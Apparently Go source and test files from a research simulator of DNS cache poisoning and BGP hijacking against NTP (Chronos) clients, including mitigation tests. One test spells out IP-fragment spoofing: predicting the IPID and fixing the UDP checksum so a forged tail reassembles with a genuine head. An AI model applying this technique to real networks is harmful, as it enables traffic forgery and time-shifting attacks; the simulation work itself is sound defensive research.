func (s *shardState) simulate(cfg Config, model *shiftModel) (*ShardResult, error) {
	p := s.plan
	s.net.Run(s.end)

	// Measure the population.
	res := &ShardResult{
		Shard:    p.index,
		Poisoned: p.poisoned,
		Clients:  p.clients,
		Chronos:  p.chronos,
		Classic:  p.classic,
	}
	for _, c := range s.chronosClients {
		var malicious, total int
		for _, e := range c.PoolView() {
			total++
			if s.bb.IsMalicious(e.IP) {
				malicious++
			}
		}
		if total > 0 {
			res.SumAttackerFraction += float64(malicious) / float64(total)
			if 3*malicious >= total {
				res.ChronosSubverted++
			}
		}
		if model.shifted(total, malicious) {
			res.ChronosShifted++
		}
	}
	var scratch []simnet.Addr
	for _, cl := range s.classicClients {
		servers := cl.ServersInto(scratch[:0])
		scratch = servers
		malicious := 0
		for _, a := range servers {
			if s.bb.IsMalicious(a.IP) {
				malicious++
			}
		}
		if len(servers) > 0 && 2*malicious > len(servers) {
			res.ClassicSubverted++
		}
	}
	res.ResolverStats = s.resolver.Stats()
	if s.att != nil {
		if s.att.Hijacker != nil {
			res.Planted = s.att.Hijacker.Hijacked > 0
		} else if s.att.Poisoner != nil {
			res.Planted = core.GluePoisoned(s.resolver)
		}
	}
	return res, nil
}
