package fleet

import (
	"context"
	"errors"
	"reflect"
	"runtime"
	"testing"

	"chronosntp/internal/core"
	"chronosntp/internal/mitigation"
)

func TestApportionExact(t *testing.T) {
	for _, tc := range []struct {
		clients, resolvers int
		dist               Distribution
		s                  float64
	}{
		{1000, 10, Zipf, 1.2},
		{1000, 10, Uniform, 0},
		{7, 10, Zipf, 1.2},
		{10007, 13, Zipf, 0.8},
		{0, 5, Uniform, 0},
		{1, 1, Zipf, 1.2},
	} {
		counts := Apportion(tc.clients, tc.resolvers, tc.dist, tc.s)
		if len(counts) != tc.resolvers {
			t.Fatalf("Apportion(%d,%d): %d shards", tc.clients, tc.resolvers, len(counts))
		}
		sum := 0
		for _, n := range counts {
			if n < 0 {
				t.Fatalf("negative shard count %v", counts)
			}
			sum += n
		}
		if sum != tc.clients {
			t.Fatalf("Apportion(%d,%d,%v): sum %d", tc.clients, tc.resolvers, tc.dist, sum)
		}
	}
}

func TestApportionZipfDescending(t *testing.T) {
	counts := Apportion(10000, 20, Zipf, 1.2)
	for i := 1; i < len(counts); i++ {
		if counts[i] > counts[i-1] {
			t.Fatalf("zipf fan-out not descending at %d: %v", i, counts)
		}
	}
	uniform := Apportion(10000, 20, Uniform, 0)
	if uniform[0] != uniform[len(uniform)-1] {
		t.Fatalf("uniform fan-out skewed: %v", uniform)
	}
	if counts[0] <= uniform[0] {
		t.Fatalf("zipf head %d should exceed uniform share %d", counts[0], uniform[0])
	}
}

// testConfig is a small-but-real fleet: enough clients for the shared
// cache to matter, reduced horizon so the suite stays fast.
func testConfig(poisoned int) Config {
	return Config{
		Seed:          7,
		Clients:       240,
		Resolvers:     6,
		Poisoned:      poisoned,
		PoolQueries:   8,
		BenignServers: 120, MaliciousServers: 60,
	}
}

func TestFleetDeterministicAcrossParallelism(t *testing.T) {
	cfg := testConfig(2)
	seq, err := Run(context.Background(), cfg, 1)
	if err != nil {
		t.Fatal(err)
	}
	par, err := Run(context.Background(), cfg, runtime.GOMAXPROCS(0))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(seq, par) {
		t.Fatalf("fleet result differs across parallelism:\nseq: %+v\npar: %+v", seq, par)
	}
	again, err := Run(context.Background(), cfg, 3)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(seq, again) {
		t.Fatalf("fleet result not reproducible from seed")
	}
}

// TestFleet10kDeterministic is the acceptance-scale check: a 10 000-client
// fleet over the full 24-query pool-generation horizon produces an
// identical result at -parallel 1 and -parallel GOMAXPROCS.
// TestFleetPhasedMatchesRun pins the phased Build/Simulate API to the
// one-shot Run path: same Config ⇒ identical Result, at every parallelism
// level, because each shard owns its network and RNG regardless of how the
// phases are batched. This is what lets the benchmarks time setup and
// steady state separately without measuring a different simulation.
func TestFleetPhasedMatchesRun(t *testing.T) {
	cfg := testConfig(2)
	want, err := Run(context.Background(), cfg, 0)
	if err != nil {
		t.Fatal(err)
	}
	for _, parallel := range []int{1, 2, 4, 8} {
		f := New(cfg)
		if err := f.Build(context.Background(), parallel); err != nil {
			t.Fatalf("parallel=%d: Build: %v", parallel, err)
		}
		got, err := f.Simulate(context.Background(), parallel)
		if err != nil {
			t.Fatalf("parallel=%d: Simulate: %v", parallel, err)
		}
		if !reflect.DeepEqual(want, got) {
			t.Fatalf("parallel=%d: phased result differs from Run:\nrun:    %+v\nphased: %+v",
				parallel, want, got)
		}
	}
}

// TestFleetSimulateRequiresBuild covers the consume-once contract of the
// phased API.
func TestFleetSimulateRequiresBuild(t *testing.T) {
	f := New(testConfig(0))
	if _, err := f.Simulate(context.Background(), 1); !errors.Is(err, ErrNotBuilt) {
		t.Fatalf("Simulate before Build: err = %v, want ErrNotBuilt", err)
	}
	if err := f.Build(context.Background(), 0); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Simulate(context.Background(), 0); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Simulate(context.Background(), 0); !errors.Is(err, ErrNotBuilt) {
		t.Fatalf("second Simulate: err = %v, want ErrNotBuilt", err)
	}
}

func TestFleet10kDeterministic(t *testing.T) {
	cfg := Config{
		Seed: 1, Clients: 10_000, Resolvers: 10, Poisoned: 1,
		BenignServers: 120, MaliciousServers: 60,
	}
	seq, err := Run(context.Background(), cfg, 1)
	if err != nil {
		t.Fatal(err)
	}
	par, err := Run(context.Background(), cfg, runtime.GOMAXPROCS(0))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(seq, par) {
		t.Fatalf("10k fleet differs across parallelism:\nseq: %+v\npar: %+v", seq, par)
	}
	if seq.TotalClients != 10_000 || seq.PlantedResolvers != 1 || seq.SubvertedClients == 0 {
		t.Fatalf("10k fleet lost the attack: %+v", seq)
	}
}

func TestFleetHonestBaselineClean(t *testing.T) {
	res, err := Run(context.Background(), testConfig(0), 0)
	if err != nil {
		t.Fatal(err)
	}
	if res.SubvertedClients != 0 || res.ShiftedClients != 0 || res.PlantedResolvers != 0 {
		t.Fatalf("honest fleet reports subversion: %+v", res)
	}
	if res.TotalClients != 240 || res.ChronosClients+res.ClassicClients != 240 {
		t.Fatalf("population accounting broken: %+v", res)
	}
	if res.MeanAttackerFraction != 0 {
		t.Fatalf("honest pools contain attacker servers: %v", res.MeanAttackerFraction)
	}
}

func TestFleetPoisoningAmplifies(t *testing.T) {
	res, err := Run(context.Background(), testConfig(1), 0)
	if err != nil {
		t.Fatal(err)
	}
	if res.PlantedResolvers != 1 {
		t.Fatalf("defrag chain did not land: %+v", res)
	}
	// The poisoned resolver is the Zipf head: a large slice of the whole
	// population falls to a single poisoned cache.
	if res.SubvertedFraction < 0.2 {
		t.Fatalf("single poisoned resolver subverted only %.3f of the population", res.SubvertedFraction)
	}
	if res.Amplification < 10 {
		t.Fatalf("amplification %.1f, want clients ≫ poisoned resolvers", res.Amplification)
	}
	head := res.Shards[0]
	if !head.Poisoned || head.ChronosSubverted == 0 || head.ClassicSubverted == 0 {
		t.Fatalf("head shard not subverted: %+v", head)
	}
	for _, s := range res.Shards[1:] {
		if s.ChronosSubverted != 0 || s.ClassicSubverted != 0 {
			t.Fatalf("unpoisoned shard %d subverted: %+v", s.Shard, s)
		}
	}
}

func TestFleetMechanisms(t *testing.T) {
	for _, mech := range []core.Mechanism{core.BGPHijack, core.BGPHijackPersistent} {
		cfg := testConfig(1)
		cfg.Mechanism = mech
		res, err := Run(context.Background(), cfg, 0)
		if err != nil {
			t.Fatalf("%v: %v", mech, err)
		}
		if res.PlantedResolvers != 1 {
			t.Fatalf("%v: hijack answered no queries", mech)
		}
		if res.SubvertedClients == 0 {
			t.Fatalf("%v: no clients subverted", mech)
		}
	}
}

func TestFleetMitigationStopsDefrag(t *testing.T) {
	cfg := testConfig(2)
	cfg.ResolverPolicy = mitigation.PaperResolverPolicy()
	cfg.ClientPolicy = mitigation.PaperClientPolicy()
	res, err := Run(context.Background(), cfg, 0)
	if err != nil {
		t.Fatal(err)
	}
	// The §V caps reject both the long-TTL poisoned referral and the
	// 89-record forged response, so the population stays clean.
	if res.SubvertedClients != 0 {
		t.Fatalf("mitigated fleet still subverted: %+v", res)
	}
}

func TestFleetWireStubFidelity(t *testing.T) {
	cfg := testConfig(1)
	cfg.Clients = 60
	cfg.Resolvers = 3
	cfg.WireStubs = true
	res, err := Run(context.Background(), cfg, 0)
	if err != nil {
		t.Fatal(err)
	}
	if res.PlantedResolvers != 1 || res.SubvertedClients == 0 {
		t.Fatalf("wire-stub fleet lost the attack: planted=%d subverted=%d",
			res.PlantedResolvers, res.SubvertedClients)
	}
}

// TestFleetShiftMemoParallelismDeterministic pins the fleet-shared
// shiftsim memo: the verdict for a (pool size, malicious count)
// composition is computed once per fleet run by whichever shard gets
// there first, so the shifted-client counts must be bit-identical no
// matter how many workers race to populate the memo — the composition
// seed derives from the fleet seed alone, never from shard or goroutine
// identity.
func TestFleetShiftMemoParallelismDeterministic(t *testing.T) {
	cfg := testConfig(2) // two poisoned resolvers ⇒ shift verdicts exercised
	want, err := Run(context.Background(), cfg, 1)
	if err != nil {
		t.Fatal(err)
	}
	if want.ShiftedClients == 0 {
		t.Fatal("no shifted clients; the memo under test is never consulted")
	}
	for _, parallel := range []int{1, 2, 4, 8} {
		got, err := Run(context.Background(), cfg, parallel)
		if err != nil {
			t.Fatalf("parallel=%d: %v", parallel, err)
		}
		if got.ShiftedClients != want.ShiftedClients || got.ShiftedFraction != want.ShiftedFraction {
			t.Fatalf("parallel=%d: shifted %d (%.6f), want %d (%.6f)",
				parallel, got.ShiftedClients, got.ShiftedFraction,
				want.ShiftedClients, want.ShiftedFraction)
		}
		for i := range got.Shards {
			if got.Shards[i].ChronosShifted != want.Shards[i].ChronosShifted {
				t.Fatalf("parallel=%d: shard %d ChronosShifted %d, want %d",
					parallel, i, got.Shards[i].ChronosShifted, want.Shards[i].ChronosShifted)
			}
		}
	}
}
