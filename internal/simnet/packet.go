package simnet

import (
	"fmt"

	"chronosntp/internal/ipfrag"
)

// Packet is an IPv4 packet (possibly a fragment) in flight. Payload holds
// the transport bytes carried by this fragment; for an unfragmented packet
// that is the whole UDP datagram (header included).
type Packet struct {
	Src     IP
	Dst     IP
	Proto   uint8
	ID      uint16 // IPv4 Identification, the fragment-match key
	Offset  int    // fragment byte offset (multiple of 8)
	More    bool   // MF flag
	Payload []byte
}

// IsFragment reports whether the packet is part of a fragmented datagram.
func (p Packet) IsFragment() bool { return p.Offset != 0 || p.More }

// FlowKey returns the reassembly key of the packet.
func (p Packet) FlowKey() ipfrag.FlowKey {
	return ipfrag.FlowKey{Src: [4]byte(p.Src), Dst: [4]byte(p.Dst), Proto: p.Proto, ID: p.ID}
}

// Fragment converts the packet into its ipfrag representation.
func (p Packet) Fragment() ipfrag.Fragment {
	return ipfrag.Fragment{Key: p.FlowKey(), Offset: p.Offset, More: p.More, Data: p.Payload}
}

// String implements fmt.Stringer for tracing.
func (p Packet) String() string {
	frag := ""
	if p.IsFragment() {
		frag = fmt.Sprintf(" frag[off=%d more=%v]", p.Offset, p.More)
	}
	return fmt.Sprintf("pkt %s->%s id=%d len=%d%s", p.Src, p.Dst, p.ID, len(p.Payload), frag)
}

// Verdict is a tap's decision about a packet.
type Verdict int

const (
	// Pass forwards the packet unchanged.
	Pass Verdict = iota + 1
	// Drop discards the packet.
	Drop
	// Replace substitutes the packets returned by the tap for the
	// original (used by on-path/MitM attackers to rewrite traffic).
	Replace
)

// Tap observes packets traversing the network. An on-path attacker —
// including one that obtained its position via a BGP prefix hijack — is a
// Tap. The replacement slice is only consulted when the verdict is Replace.
type Tap interface {
	// Inspect is called once per packet before delivery scheduling.
	Inspect(pkt Packet) (Verdict, []Packet)
}

// TapFunc adapts a function to the Tap interface.
type TapFunc func(pkt Packet) (Verdict, []Packet)

// Inspect implements Tap.
func (f TapFunc) Inspect(pkt Packet) (Verdict, []Packet) { return f(pkt) }

var _ Tap = TapFunc(nil)
