package simnet

import (
	"bytes"
	"math/rand"
	"testing"
	"time"
)

// TestSteadyStateSendAllocFree pins down the pooled fast path: once the
// event free-list and datagram buffer pool are warm, an unfragmented
// send-and-deliver cycle on a tap-free network performs zero heap
// allocations. A regression here silently multiplies fleet-scale GC cost
// by millions of packets.
func TestSteadyStateSendAllocFree(t *testing.T) {
	n := New(Config{Seed: 3})
	a, err := n.AddHost(ipA)
	if err != nil {
		t.Fatal(err)
	}
	b, err := n.AddHost(ipB)
	if err != nil {
		t.Fatal(err)
	}
	var got int
	if err := b.Listen(123, func(now time.Time, meta Meta, payload []byte) { got++ }); err != nil {
		t.Fatal(err)
	}
	payload := bytes.Repeat([]byte{0x5a}, 48)
	cycle := func() {
		if err := a.SendUDP(5000, Addr{IP: ipB, Port: 123}, payload); err != nil {
			t.Fatal(err)
		}
		n.RunFor(time.Second)
	}
	for i := 0; i < 32; i++ {
		cycle() // warm the event free-list and buffer pool
	}
	if allocs := testing.AllocsPerRun(100, cycle); allocs != 0 {
		t.Fatalf("steady-state send+deliver allocates %.1f objects/op, want 0", allocs)
	}
	if got < 132 {
		t.Fatalf("only %d datagrams delivered; the cycle under test is not exercising delivery", got)
	}
}

// TestPooledAndTappedPathsBitIdentical drives the same seeded traffic —
// mixed unfragmented and fragmented datagrams over a lossy path — through
// two networks that differ only in having a pass-through tap installed.
// The tap disables the pooled zero-copy fast path in SendUDP without
// perturbing the RNG stream, so any divergence in delivered bytes,
// delivery times, or counters means the pooled path changed observable
// behaviour.
func TestPooledAndTappedPathsBitIdentical(t *testing.T) {
	type outcome struct {
		payloads  [][]byte
		times     []time.Time
		delivered uint64
		dropped   uint64
	}
	drive := func(withTap bool) outcome {
		n := New(Config{
			Seed: 11,
			Loss: func(src, dst IP, rng *rand.Rand) bool { return rng.Intn(10) == 0 },
		})
		if withTap {
			n.AddTap(TapFunc(func(p Packet) (Verdict, []Packet) { return Pass, nil }))
		}
		a, err := n.AddHost(ipA)
		if err != nil {
			t.Fatal(err)
		}
		b, err := n.AddHost(ipB)
		if err != nil {
			t.Fatal(err)
		}
		var out outcome
		if err := b.Listen(123, func(now time.Time, meta Meta, payload []byte) {
			out.payloads = append(out.payloads, append([]byte(nil), payload...))
			out.times = append(out.times, now)
		}); err != nil {
			t.Fatal(err)
		}
		for i := 0; i < 120; i++ {
			// Sizes 16 and 716 stay whole; 2016 exceeds the 1480-byte
			// fragment room and splits, exercising reassembly on both runs.
			size := 16 + (i%3)*1000
			payload := bytes.Repeat([]byte{byte(i)}, size)
			if err := a.SendUDP(5000, Addr{IP: ipB, Port: 123}, payload); err != nil {
				t.Fatal(err)
			}
			n.RunFor(100 * time.Millisecond)
		}
		n.RunFor(time.Second)
		out.delivered, out.dropped = n.Delivered(), n.Dropped()
		return out
	}
	pooled := drive(false)
	tapped := drive(true)
	if pooled.delivered != tapped.delivered || pooled.dropped != tapped.dropped {
		t.Fatalf("counters diverge: pooled %d/%d, tapped %d/%d",
			pooled.delivered, pooled.dropped, tapped.delivered, tapped.dropped)
	}
	if len(pooled.payloads) != len(tapped.payloads) {
		t.Fatalf("delivery count diverges: %d vs %d", len(pooled.payloads), len(tapped.payloads))
	}
	for i := range pooled.payloads {
		if !bytes.Equal(pooled.payloads[i], tapped.payloads[i]) {
			t.Fatalf("payload %d diverges between pooled and tapped paths", i)
		}
		if !pooled.times[i].Equal(tapped.times[i]) {
			t.Fatalf("delivery time %d diverges: %v vs %v", i, pooled.times[i], tapped.times[i])
		}
	}
	if pooled.delivered == 0 || pooled.dropped == 0 {
		t.Fatalf("traffic mix degenerate (delivered=%d dropped=%d); the comparison is vacuous",
			pooled.delivered, pooled.dropped)
	}
}
