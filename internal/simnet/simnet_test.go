package simnet

import (
	"bytes"
	"math/rand"
	"testing"
	"time"
)

var (
	ipA = IPv4(10, 0, 0, 1)
	ipB = IPv4(10, 0, 0, 2)
	ipC = IPv4(10, 0, 0, 3)
)

func newTestNet(t *testing.T, cfg Config) *Network {
	t.Helper()
	if cfg.Seed == 0 {
		cfg.Seed = 99
	}
	return New(cfg)
}

func mustHost(t *testing.T, n *Network, ip IP) *Host {
	t.Helper()
	h, err := n.AddHost(ip)
	if err != nil {
		t.Fatal(err)
	}
	return h
}

type captured struct {
	meta    Meta
	payload []byte
	at      time.Time
}

func capture(sink *[]captured) Handler {
	return func(now time.Time, meta Meta, payload []byte) {
		*sink = append(*sink, captured{meta: meta, payload: append([]byte(nil), payload...), at: now})
	}
}

func TestBasicDelivery(t *testing.T) {
	n := newTestNet(t, Config{})
	a := mustHost(t, n, ipA)
	b := mustHost(t, n, ipB)
	var got []captured
	if err := b.Listen(53, capture(&got)); err != nil {
		t.Fatal(err)
	}
	msg := []byte("hello time")
	if err := a.SendUDP(5000, Addr{IP: ipB, Port: 53}, msg); err != nil {
		t.Fatal(err)
	}
	n.RunFor(time.Second)
	if len(got) != 1 {
		t.Fatalf("delivered %d datagrams, want 1", len(got))
	}
	if !bytes.Equal(got[0].payload, msg) {
		t.Errorf("payload = %q, want %q", got[0].payload, msg)
	}
	if got[0].meta.From != (Addr{IP: ipA, Port: 5000}) {
		t.Errorf("from = %v", got[0].meta.From)
	}
	if got[0].at.Before(n.Now().Add(-time.Second)) {
		t.Error("delivery time implausible")
	}
	if n.Delivered() != 1 {
		t.Errorf("Delivered = %d", n.Delivered())
	}
}

func TestDeterminismSameSeed(t *testing.T) {
	run := func(seed int64) []time.Time {
		n := New(Config{Seed: seed})
		a, _ := n.AddHost(ipA)
		b, _ := n.AddHost(ipB)
		var times []time.Time
		_ = b.Listen(53, func(now time.Time, meta Meta, payload []byte) {
			times = append(times, now)
		})
		for i := 0; i < 20; i++ {
			_ = a.SendUDP(5000, Addr{IP: ipB, Port: 53}, []byte{byte(i)})
		}
		n.RunFor(time.Second)
		return times
	}
	t1 := run(7)
	t2 := run(7)
	t3 := run(8)
	if len(t1) != 20 || len(t2) != 20 {
		t.Fatalf("deliveries: %d, %d", len(t1), len(t2))
	}
	for i := range t1 {
		if !t1[i].Equal(t2[i]) {
			t.Fatalf("same seed diverged at %d: %v vs %v", i, t1[i], t2[i])
		}
	}
	same := true
	for i := range t1 {
		if !t1[i].Equal(t3[i]) {
			same = false
		}
	}
	if same {
		t.Error("different seeds produced identical jitter (suspicious)")
	}
}

func TestUnknownDestinationDropped(t *testing.T) {
	n := newTestNet(t, Config{})
	a := mustHost(t, n, ipA)
	if err := a.SendUDP(1234, Addr{IP: ipC, Port: 53}, []byte("x")); err != nil {
		t.Fatal(err)
	}
	n.RunFor(time.Second)
	if n.Dropped() != 1 {
		t.Errorf("Dropped = %d, want 1", n.Dropped())
	}
}

func TestPortUnreachableDropped(t *testing.T) {
	n := newTestNet(t, Config{})
	a := mustHost(t, n, ipA)
	mustHost(t, n, ipB)
	_ = a.SendUDP(1234, Addr{IP: ipB, Port: 53}, []byte("x"))
	n.RunFor(time.Second)
	if n.Delivered() != 0 || n.Dropped() != 1 {
		t.Errorf("delivered=%d dropped=%d", n.Delivered(), n.Dropped())
	}
}

func TestDuplicateHostRejected(t *testing.T) {
	n := newTestNet(t, Config{})
	mustHost(t, n, ipA)
	if _, err := n.AddHost(ipA); err == nil {
		t.Error("expected ErrHostExists")
	}
}

func TestDuplicatePortRejected(t *testing.T) {
	n := newTestNet(t, Config{})
	a := mustHost(t, n, ipA)
	if err := a.Listen(53, func(time.Time, Meta, []byte) {}); err != nil {
		t.Fatal(err)
	}
	if err := a.Listen(53, func(time.Time, Meta, []byte) {}); err == nil {
		t.Error("expected ErrPortInUse")
	}
	if !a.Close(53) {
		t.Error("Close should report bound port")
	}
	if a.Close(53) {
		t.Error("second Close should report unbound")
	}
}

func TestLossModel(t *testing.T) {
	n := New(Config{
		Seed: 3,
		Loss: func(src, dst IP, rng *rand.Rand) bool { return rng.Float64() < 0.5 },
	})
	a, _ := n.AddHost(ipA)
	b, _ := n.AddHost(ipB)
	var got []captured
	_ = b.Listen(53, capture(&got))
	const sends = 400
	for i := 0; i < sends; i++ {
		_ = a.SendUDP(5000, Addr{IP: ipB, Port: 53}, []byte{1})
	}
	n.RunFor(time.Second)
	if len(got) == 0 || len(got) == sends {
		t.Fatalf("loss model ineffective: %d/%d delivered", len(got), sends)
	}
	if frac := float64(len(got)) / sends; frac < 0.35 || frac > 0.65 {
		t.Errorf("delivery fraction %v, want ~0.5", frac)
	}
}

func TestFragmentationRoundTrip(t *testing.T) {
	// Force a small path MTU so the datagram fragments, and verify the
	// receiver reassembles transparently.
	n := New(Config{
		Seed: 5,
		MTU: func(src, dst IP) int {
			return 548
		},
	})
	a, _ := n.AddHost(ipA)
	b, _ := n.AddHost(ipB)
	var got []captured
	_ = b.Listen(53, capture(&got))
	payload := make([]byte, 1800)
	rand.New(rand.NewSource(1)).Read(payload)
	if err := a.SendUDP(5000, Addr{IP: ipB, Port: 53}, payload); err != nil {
		t.Fatal(err)
	}
	n.RunFor(time.Second)
	if len(got) != 1 {
		t.Fatalf("delivered %d, want 1", len(got))
	}
	if !bytes.Equal(got[0].payload, payload) {
		t.Error("fragmented payload corrupted")
	}
}

func TestTapObserveAndDrop(t *testing.T) {
	n := newTestNet(t, Config{})
	a := mustHost(t, n, ipA)
	b := mustHost(t, n, ipB)
	var got []captured
	_ = b.Listen(53, capture(&got))
	seen := 0
	handle := n.AddTap(TapFunc(func(pkt Packet) (Verdict, []Packet) {
		seen++
		if pkt.Dst == ipB {
			return Drop, nil
		}
		return Pass, nil
	}))
	_ = a.SendUDP(5000, Addr{IP: ipB, Port: 53}, []byte("x"))
	n.RunFor(time.Second)
	if seen != 1 {
		t.Errorf("tap saw %d packets, want 1", seen)
	}
	if len(got) != 0 {
		t.Error("dropped packet was delivered")
	}
	if !handle.Remove() {
		t.Error("Remove should report success")
	}
	if handle.Remove() {
		t.Error("second Remove should report failure")
	}
	_ = a.SendUDP(5000, Addr{IP: ipB, Port: 53}, []byte("y"))
	n.RunFor(time.Second)
	if len(got) != 1 {
		t.Error("delivery after tap removal failed")
	}
}

func TestTapReplaceRedirects(t *testing.T) {
	// A replace tap models a BGP hijack: traffic to B is rewritten to C.
	n := newTestNet(t, Config{})
	a := mustHost(t, n, ipA)
	b := mustHost(t, n, ipB)
	c := mustHost(t, n, ipC)
	var gotB, gotC []captured
	_ = b.Listen(53, capture(&gotB))
	_ = c.Listen(53, capture(&gotC))
	n.AddTap(TapFunc(func(pkt Packet) (Verdict, []Packet) {
		if pkt.Dst == ipB {
			redirected := pkt
			redirected.Dst = ipC
			// Rewrite the UDP checksum context by re-encoding: the tap
			// forged a new datagram to C.
			srcPort, dstPort, payload, err := DecodeUDP(pkt.Src, pkt.Dst, pkt.Payload)
			if err != nil {
				return Drop, nil
			}
			redirected.Payload = EncodeUDP(Addr{IP: pkt.Src, Port: srcPort}, Addr{IP: ipC, Port: dstPort}, payload)
			return Replace, []Packet{redirected}
		}
		return Pass, nil
	}))
	_ = a.SendUDP(5000, Addr{IP: ipB, Port: 53}, []byte("to b"))
	n.RunFor(time.Second)
	if len(gotB) != 0 {
		t.Error("hijacked packet still reached B")
	}
	if len(gotC) != 1 {
		t.Fatalf("hijacked packet not delivered to C (got %d)", len(gotC))
	}
	if string(gotC[0].payload) != "to b" {
		t.Errorf("payload = %q", gotC[0].payload)
	}
}

func TestInjectSpoofedDatagram(t *testing.T) {
	// An off-path attacker at C injects a datagram claiming to be from B.
	n := newTestNet(t, Config{})
	a := mustHost(t, n, ipA)
	mustHost(t, n, ipB)
	mustHost(t, n, ipC)
	var got []captured
	_ = a.Listen(123, capture(&got))
	spoofSrc := Addr{IP: ipB, Port: 123}
	dst := Addr{IP: ipA, Port: 123}
	datagram := EncodeUDP(spoofSrc, dst, []byte("evil"))
	n.Inject(Packet{Src: ipB, Dst: ipA, Proto: ProtoUDP, ID: 777, Payload: datagram}, 0)
	n.RunFor(time.Second)
	if len(got) != 1 {
		t.Fatalf("spoofed datagram not delivered (got %d)", len(got))
	}
	if got[0].meta.From != spoofSrc {
		t.Errorf("spoofed source = %v, want %v", got[0].meta.From, spoofSrc)
	}
	if got[0].meta.IPID != 777 {
		t.Errorf("IPID = %d, want 777", got[0].meta.IPID)
	}
}

func TestInjectedFragmentCombinesWithGenuine(t *testing.T) {
	// End-to-end defrag injection through the network layer: attacker
	// plants a spoofed tail at the victim; the genuine fragmented
	// datagram's head then completes with the attacker's tail, *iff* the
	// attacker preserved the UDP checksum.
	n := New(Config{
		Seed: 11,
		MTU: func(src, dst IP) int {
			if src == ipB {
				return 548 // the server's path fragments
			}
			return DefaultMTU
		},
	})
	victim, _ := n.AddHost(ipA)
	server, _ := n.AddHost(ipB)
	mustHost(t, n, ipC)
	var got []captured
	_ = victim.Listen(9999, capture(&got))

	payload := bytes.Repeat([]byte{0xAB}, 1000) // fragments into 528 + 472+8hdr
	serverAddr := Addr{IP: ipB, Port: 53}
	victimAddr := Addr{IP: ipA, Port: 9999}
	datagram := EncodeUDP(serverAddr, victimAddr, payload)

	// Attacker predicts the server's next IPID.
	id := server.PeekIPID()
	tail := datagram[528:] // bytes the genuine second fragment will carry
	spoofTail := append([]byte(nil), tail...)
	// Attacker rewrites all but the last two bytes, then compensates the
	// ones-complement sum in the final two bytes.
	for i := 0; i < len(spoofTail)-2; i++ {
		spoofTail[i] = 0xEE
	}
	spoofTail[len(spoofTail)-2], spoofTail[len(spoofTail)-1] = 0, 0
	wantSum := OnesComplementSum16(tail)
	haveSum := OnesComplementSum16(spoofTail)
	// Solve: haveSum + x == wantSum (mod 2^16-1, ones-complement add).
	delta := int32(wantSum) - int32(haveSum)
	if delta < 0 {
		delta += 0xFFFF
	}
	spoofTail[len(spoofTail)-2] = byte(delta >> 8)
	spoofTail[len(spoofTail)-1] = byte(delta)

	n.Inject(Packet{
		Src: ipB, Dst: ipA, Proto: ProtoUDP, ID: id,
		Offset: 528, More: false, Payload: spoofTail,
	}, 0)
	n.RunFor(50 * time.Millisecond)

	// Server now sends the genuine datagram; its head joins the planted tail.
	if err := server.SendUDP(53, victimAddr, payload); err != nil {
		t.Fatal(err)
	}
	n.RunFor(time.Second)

	if len(got) != 1 {
		t.Fatalf("got %d deliveries, want 1 (checksum-valid spoofed reassembly)", len(got))
	}
	if got[0].payload[600-8] != 0xEE { // -8: payload excludes UDP header
		t.Error("delivered payload does not contain attacker bytes")
	}
}

func TestTimers(t *testing.T) {
	n := newTestNet(t, Config{})
	var order []int
	n.After(3*time.Second, func() { order = append(order, 3) })
	n.After(time.Second, func() { order = append(order, 1) })
	tm := n.After(2*time.Second, func() { order = append(order, 2) })
	if !tm.Cancel() {
		t.Error("Cancel should succeed before firing")
	}
	if tm.Cancel() {
		t.Error("second Cancel should fail")
	}
	n.RunFor(5 * time.Second)
	if len(order) != 2 || order[0] != 1 || order[1] != 3 {
		t.Errorf("order = %v, want [1 3]", order)
	}
}

func TestRunAdvancesTime(t *testing.T) {
	n := newTestNet(t, Config{})
	start := n.Now()
	n.RunFor(time.Hour)
	if got := n.Now().Sub(start); got != time.Hour {
		t.Errorf("advanced %v, want 1h", got)
	}
}

func TestStepAndDrain(t *testing.T) {
	n := newTestNet(t, Config{})
	count := 0
	for i := 0; i < 5; i++ {
		n.After(time.Duration(i)*time.Millisecond, func() { count++ })
	}
	if !n.Step() {
		t.Fatal("Step should execute an event")
	}
	if got := n.Drain(0); got != 4 {
		t.Errorf("Drain executed %d, want 4", got)
	}
	if n.Step() {
		t.Error("queue should be empty")
	}
	if count != 5 {
		t.Errorf("count = %d", count)
	}
}

func TestNestedScheduling(t *testing.T) {
	n := newTestNet(t, Config{})
	var fired []string
	n.After(time.Second, func() {
		fired = append(fired, "outer")
		n.After(time.Second, func() { fired = append(fired, "inner") })
	})
	n.RunFor(3 * time.Second)
	if len(fired) != 2 || fired[0] != "outer" || fired[1] != "inner" {
		t.Errorf("fired = %v", fired)
	}
}

func TestEphemeralAndRandomPorts(t *testing.T) {
	n := newTestNet(t, Config{})
	a := mustHost(t, n, ipA)
	p1 := a.EphemeralPort()
	_ = a.Listen(p1, func(time.Time, Meta, []byte) {})
	p2 := a.EphemeralPort()
	if p1 == p2 {
		t.Error("ephemeral ports collided")
	}
	r1 := a.RandomPort()
	if r1 < 1024 {
		t.Errorf("random port %d below 1024", r1)
	}
}

func TestIPIDSequential(t *testing.T) {
	n := newTestNet(t, Config{})
	a := mustHost(t, n, ipA)
	mustHost(t, n, ipB)
	first := a.PeekIPID()
	_ = a.SendUDP(1000, Addr{IP: ipB, Port: 1}, []byte("x"))
	if got := a.PeekIPID(); got != first+1 {
		t.Errorf("IPID advanced to %d, want %d", got, first+1)
	}
	a.RandomizeIPID()
	// Can't assert a specific value; just ensure sends still work.
	_ = a.SendUDP(1000, Addr{IP: ipB, Port: 1}, []byte("x"))
}

func TestPrefixMatch(t *testing.T) {
	base := IPv4(203, 0, 113, 0)
	if !IPv4(203, 0, 113, 55).InPrefix(base, 24) {
		t.Error("in-prefix address rejected")
	}
	if IPv4(203, 0, 114, 1).InPrefix(base, 24) {
		t.Error("out-of-prefix address accepted")
	}
	if !IPv4(8, 8, 8, 8).InPrefix(base, 0) {
		t.Error("0-bit prefix should match everything")
	}
	if !IPv4(203, 0, 113, 7).InPrefix(IPv4(203, 0, 113, 7), 32) {
		t.Error("/32 should match itself")
	}
}

func TestUDPChecksumValidation(t *testing.T) {
	src := Addr{IP: ipA, Port: 10}
	dst := Addr{IP: ipB, Port: 20}
	d := EncodeUDP(src, dst, []byte("payload"))
	if _, _, _, err := DecodeUDP(ipA, ipB, d); err != nil {
